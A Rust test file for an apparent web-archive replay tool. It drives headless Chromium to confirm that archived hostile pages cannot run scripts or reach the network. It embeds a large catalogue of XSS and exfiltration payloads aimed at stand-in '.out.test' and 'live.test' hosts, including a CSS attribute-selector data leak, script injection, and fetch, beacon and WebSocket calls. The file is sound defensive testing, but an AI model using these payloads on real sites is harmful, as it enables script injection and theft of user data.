//! Real Chromium: what a hostile copy can do there, which is to be seen.
//!
//! Every name of the world leads to the web of the test, which writes down who is asked for what. Needs Chromium; without it, one line
//! says that nothing was tried; under `SOURCEKEEP_REQUIRE_TOOLS=1` it is a failure.

use std::io::Write;
use std::process::Command;

#[cfg(unix)]
use crate::chromium::Chromium;
use crate::serving::Serving;
use crate::support::Desk;
use crate::web::Page;

const NAMES: [&str; 4] = [
    "chromium",
    "chromium-browser",
    "google-chrome-stable",
    "google-chrome",
];

pub(crate) fn chromium() -> Option<std::path::PathBuf> {
    let folders = std::env::var_os("PATH").unwrap_or_default();
    let found = std::env::split_paths(&folders)
        .flat_map(|folder| NAMES.map(|name| folder.join(name)))
        .find(|path| path.is_file());
    let required = std::env::var_os("SOURCEKEEP_REQUIRE_TOOLS").is_some_and(|one| one == "1");
    assert!(found.is_some() || !required, "no Chromium on PATH");
    if found.is_none() {
        let _ = writeln!(std::io::stderr(), "skipped: no Chromium on PATH");
    }
    found
}

/// Everything that a page can try; each way out has a name of its own.
const HOSTILE: &str = r#"<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=http://refresh.out.test/">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<base href="http://base.out.test/">
<title>"><script>document.title='RAN'</script></title>
<link rel="preload" as="image" href="http://preload.out.test/"><link rel="prefetch" href="http://prefetch.out.test/">
<link rel="preconnect" href="http://preconnect.out.test/"><link rel="dns-prefetch" href="//dns.out.test/">
<link rel="modulepreload" href="http://module.out.test/m.js"><link rel="manifest" href="http://manifest.out.test/">
<link rel="stylesheet" href="http://style.out.test/s.css"><link rel="icon" href="http://icon.out.test/">
<script type="importmap">{"imports":{"a":"http://import.out.test/a.js"}}</script>
<script src="http://script.out.test/s.js"></script>
<script>document.title='RAN';new Image().src='http://image.out.test/';fetch('http://fetch.out.test/');navigator.sendBeacon('http://beacon.out.test/');
top.location='http://top.out.test/';parent.postMessage('x','*');window.open('http://popup.out.test/');navigator.serviceWorker.register('/sw.js');
document.cookie='a=b';localStorage.a=1;new WebSocket('ws://socket.out.test/');document.write('<p>RAN</p>')</script>
<style>@import url(http://import-css.out.test/);@font-face{font-family:x;src:url(http://font.out.test/)}
input[value^="a"]{background:url(http://exfiltrated.out.test/a)} body{background:url(http://background.out.test/);font-family:x}
p::before{content:url(http://content.out.test/)}</style></head>
<body onload="document.title='RAN'" background="http://body.out.test/"><p>A page that wants out.</p>
<img src="http://broken.out.test/" onerror="document.title='RAN'" srcset="http://srcset.out.test/ 2x"><input value="abc" autofocus onfocus="document.title='RAN'">
<svg><script>document.title='RAN'</script><image href="http://svg.out.test/"/><a xlink:href="javascript:document.title='RAN'"><text>x</text></a>
<animate attributeName="href" values="javascript:document.title='RAN'"/><foreignObject><iframe src="http://foreign.out.test/"></iframe></foreignObject></svg>
<iframe src="http://frame.out.test/"></iframe><iframe src="javascript:parent.document.title='RAN'"></iframe>
<iframe srcdoc="<script>top.document.title='RAN'</script><img src='http://srcdoc.out.test/'>"></iframe>
<iframe src="data:text/html,<script>top.postMessage(1,'*')</script><img src=http://data.out.test/>"></iframe>
<object data="http://object.out.test/"></object><embed src="http://embed.out.test/"><video src="http://video.out.test/" poster="http://poster.out.test/" autoplay></video>
<audio src="http://audio.out.test/" autoplay></audio><form action="http://form.out.test/" method="post"><button autofocus>x</button></form>
<a href="javascript:document.title='RAN'" ping="http://ping.out.test/">x</a><math><mtext><style><img src="http://math.out.test/"></style></mtext></math>
<noscript><p title="</noscript><img src=http://noscript.out.test/ onerror=document.title='RAN'>"></noscript>
<template><img src="http://template.out.test/"></template><xmp><img src="http://xmp.out.test/"></xmp>
<portal src="http://portal.out.test/"></portal><marquee onstart="document.title='RAN'">x</marquee><details open ontoggle="document.title='RAN'">x</details>
</body></html>"#;

#[test]
fn nothing_of_a_hostile_copy_runs_and_nothing_leaves() {
    let Some(chromium) = chromium() else {
        return;
    };
    let desk = Desk::new();
    let hostile = Page::html(HOSTILE)
        .header("Refresh", "0; url=http://header.out.test/")
        .header("Link", "<http://link.out.test/>; rel=preload; as=image")
        .header("Set-Cookie", "a=b");
    desk.web.page("a.test", "/page", hostile);
    let drawing = "<svg xmlns='http://www.w3.org/2000/svg' onload='top.location=\"http://drawn.out.test/\"'>\
                   <script>document.documentElement.setAttribute('title','RAN')</script><image href='http://in-svg.out.test/'/></svg>";
    desk.web.page(
        "a.test",
        "/drawing.svg",
        Page::bytes("image/svg+xml", drawing),
    );
    let xml = "<?xml version='1.0'?><?xml-stylesheet href='http://xsl.out.test/' type='text/xsl'?><x xmlns='http://www.w3.org/1999/xhtml'><script>document.title='RAN'</script></x>";
    desk.web
        .page("a.test", "/data.xml", Page::bytes("application/xml", xml));
    let names = ["page", "drawing.svg", "data.xml"];
    let sources = names.map(|name| format!("http://a.test/{name}"));
    desk.post("posts/a.md", &sources.each_ref().map(String::as_str));
    desk.run("run posts --no-requisites").exits(0);
    let serving = Serving::start(&desk);
    desk.web.forget_requests();
    for source in &sources {
        let path = format!("/web/20260105080000/{source}");
        for (host, form) in [
            (&serving.ui, ""),
            (&serving.replay, ""),
            (&serving.replay, "fr_"),
            (&serving.replay, "im_"),
            (&serving.replay, "to_"),
        ] {
            let path = path.replacen("/http", &format!("{form}/http"), 1);
            let shown = shown(&chromium, &desk, &format!("http://{host}{path}"));
            // What is no picture is none that could be shown: a browser makes nothing of an empty 404.
            let is_absent = form == "im_" && {
                let said = crate::serving::asked(host, &path, "");
                said.status == 404 && said.bytes.is_empty()
            };
            assert!(
                is_absent || shown.contains("</html>") || shown.contains("</svg>"),
                "{path}: {shown}"
            );
            assert!(!shown.contains(" title=\"RAN\""), "{path}: {shown}");
            // As text of the page it may stand there; as what a script did, it may not.
            let title = shown.split("<title>").nth(1).unwrap_or_default();
            let title = title.split("</title>").next().unwrap();
            assert_ne!(title, "RAN", "{path}: {shown}");
            assert!(!shown.contains("<p>RAN"), "{path}: {shown}");
            let asked: Vec<_> = desk
                .web
                .requests()
                .into_iter()
                .map(|one| one.host)
                .filter(|host| host.split('.').next_back() == Some("test"))
                .collect();
            assert!(asked.is_empty(), "{path}: {asked:?}");
        }
    }
    // What is asked for is written down.
    shown(&chromium, &desk, "http://a.test/page");
    let asked = desk.web.requests();
    assert!(
        asked.iter().any(|one| one.host == "script.out.test"),
        "{asked:?}"
    );
}

/// The document that Chromium makes of an address.
fn shown(chromium: &std::path::Path, desk: &Desk, address: &str) -> String {
    let web = desk.web.addr();
    let profile = tempfile::tempdir().unwrap();
    let mut command = Command::new(chromium);
    command
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
        ])
        .args(["--no-first-run", "--ignore-certificate-errors"])
        .arg("--virtual-time-budget=3000")
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!(
            "--host-resolver-rules=MAP * {web}, EXCLUDE 127.0.0.1, EXCLUDE localhost"
        ))
        .arg(address);
    let output = command.output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn a_page_that_scripts_fill_is_shown_as_a_browser_made_it() {
    if chromium().is_none() {
        return;
    }
    let desk = Desk::new();
    let shell = "<!doctype html><title>App</title><div id=root></div><script src=/app.js></script>";
    desk.web.page("app.test", "/strikes", Page::html(shell));
    let script = "document.getElementById('root').innerHTML = '<h1>Strikes</h1><img src=/strike.png>' +\
                  '<p>A paragraph that tells of the strikes of that year in the valley, and who counted them.</p>'.repeat(8)";
    desk.web.page(
        "app.test",
        "/app.js",
        Page::bytes("text/javascript", script),
    );
    let picture = Page::bytes("image/png", "\u{89}PNG picture");
    desk.web.page("app.test", "/strike.png", picture);
    desk.post("posts/a.md", &["https://app.test/strikes"]);
    desk.run("run posts --browser=shells").exits(0);
    let serving = Serving::start(&desk);
    let place = "/web/20260105080000/https://app.test/strikes";
    let banner = serving.ui(place).is(200).text();
    assert!(banner.contains("Shown as a browser made it"), "{banner}");
    let copy = serving.replay(place).is(200).text();
    assert!(
        copy.contains("<h1>Strikes</h1>") && !copy.contains("<script"),
        "{copy}"
    );
    let (_, path) = copy.split_once("<img src=\"").unwrap();
    let picture = serving.replay(path.split('"').next().unwrap()).is(200);
    assert_eq!(picture.text(), "\u{89}PNG picture");
    let stored = serving.replay(&place.replacen("/https", "id_/https", 1));
    assert_eq!(stored.text(), shell);
}

#[cfg(unix)]
#[test]
fn links_lead_to_other_copies_and_never_to_the_web() {
    let Some(program) = chromium() else {
        return;
    };
    let desk = Desk::new();
    let page = |words: &str, link: &str| {
        let words =
            format!("{words}, told at a length at which it is a page of its own. ").repeat(5);
        Page::html(format!(
            "<!doctype html><title>x</title><a target=_top href=\"{link}\">a link</a><p>{words}"
        ))
    };
    desk.web.page("a.test", "/one", page("The first", "/two"));
    desk.web
        .page("a.test", "/two", page("The second", "/three"));
    desk.post("posts/a.md", &["http://a.test/one", "http://a.test/two"]);
    desk.run("run posts").exits(0);
    let serving = Serving::start(&desk);
    desk.web.forget_requests();
    let rules = format!(
        "--host-resolver-rules=MAP * {}, EXCLUDE 127.0.0.1",
        desk.web.addr()
    );
    let mut chromium = Chromium::start(&program, &[rules]);
    let [one, two] = ["one", "two"].map(|name| {
        format!(
            "http://{}/web/20260105080000/http://a.test/{name}",
            serving.ui
        )
    });
    chromium.open(&one);
    let copy = chromium.frame("/http://a.test/one");
    // A copy could do nothing of this if it could run scripts; and it cannot.
    for tried in [
        "top.location = 'http://live.test/top'",
        "location = 'http://live.test/own'",
        "window.open('http://live.test/opened')",
        "document.cookie",
        "localStorage.length",
        "top.document.title",
        "fetch('http://live.test/fetched')",
    ] {
        let caught = format!(
            "(() => {{ try {{ {tried}; return 'done' }} catch (error) {{ return 'caught' }} }})()"
        );
        chromium.evaluate(&copy, &caught);
    }
    chromium.open(&one);
    let copy = chromium.frame("/http://a.test/one");
    assert_eq!(chromium.evaluate(&copy, "origin"), "null");
    assert_eq!(chromium.address(), one);
    // A link opens a page of ours in the frame, and that leads to the copy in the whole tab.
    let to_two = "to_/http://a.test/two";
    chromium.click(&copy, "a", |chromium| chromium.target("iframe", to_two));
    let way = chromium.frame(to_two);
    assert_eq!(chromium.address(), one);
    let says = chromium.evaluate(&way, "document.body.innerText");
    assert!(
        says.as_str().unwrap().contains("of which there is a copy"),
        "{says}"
    );
    chromium.click(&way, "a", |chromium| {
        (chromium.address() == two).then_some(())
    });
    // Where there is no copy, that is said, and nothing is asked for.
    let number = desk.number("select c.id from capture c where c.url = 'http://a.test/two'");
    let copy = chromium.frame(&format!("-{number}/http://a.test/two"));
    let to_three = "to_/http://a.test/three";
    chromium.click(&copy, "a", |chromium| chromium.target("iframe", to_three));
    let way = chromium.frame(to_three);
    let says = chromium.evaluate(&way, "document.body.innerText");
    assert!(says.as_str().unwrap().contains("Not captured"), "{says}");
    let asked: Vec<_> = desk
        .web
        .requests()
        .into_iter()
        .map(|one| one.host)
        .collect();
    let of_us = |host: &String| host.ends_with("a.test") || host == "live.test";
    assert!(!asked.iter().any(of_us), "{asked:?}");
}

#[cfg(unix)]
#[test]
fn drawings_in_other_files_are_seen_and_plugins_leave_their_room() {
    let Some(program) = chromium() else {
        return;
    };
    let desk = Desk::new();
    let words = "Told at a length at which it is a page of its own, with a drawing. ".repeat(5);
    let page = format!(
        "<!doctype html><title>x</title><svg width=40 height=40><use href='/icons.svg#mail'/></svg><p>{words}</p>\
         <object><embed src=/film.swf type=application/x-shockwave-flash width=425 height=350></object>\
         <object id=logo type=image/svg+xml data=/logo.svg>logo</object>"
    );
    desk.web.page("a.test", "/page", Page::html(page));
    let drawing = |content: &str, size: &str| {
        let drawing = format!("<svg xmlns='http://www.w3.org/2000/svg' {size}>{content}</svg>");
        Page::bytes("image/svg+xml", drawing)
    };
    let icons = "<symbol id='mail' viewBox='0 0 20 20'><rect width='20' height='20' fill='url(#red)'/></symbol>\
                 <linearGradient id='red'><stop stop-color='red'/></linearGradient>";
    desk.web.page("a.test", "/icons.svg", drawing(icons, ""));
    let logo = "<circle r='30'/>";
    let size = "width='60' height='30'";
    desk.web.page("a.test", "/logo.svg", drawing(logo, size));
    desk.post("posts/a.md", &["http://a.test/page"]);
    desk.run("run posts").exits(0);
    let serving = Serving::start(&desk);
    let rules = format!(
        "--host-resolver-rules=MAP * {}, EXCLUDE 127.0.0.1",
        desk.web.addr()
    );
    let mut chromium = Chromium::start(&program, &[rules]);
    let place = "/web/20260105080000/http://a.test/page";
    chromium.open(&format!("http://{}{place}", serving.ui));
    let copy = chromium.frame("/http://a.test/page");
    for (what, width) in [
        ("document.querySelector('use').getBBox()", 40),
        (
            "document.querySelectorAll('img')[0].getBoundingClientRect()",
            425,
        ),
        (
            "document.querySelector('#logo').getBoundingClientRect()",
            60,
        ),
    ] {
        let measured = chromium.evaluate(&copy, &format!("{what}.width"));
        assert_eq!(measured.as_f64(), Some(f64::from(width)), "{what}");
    }
}
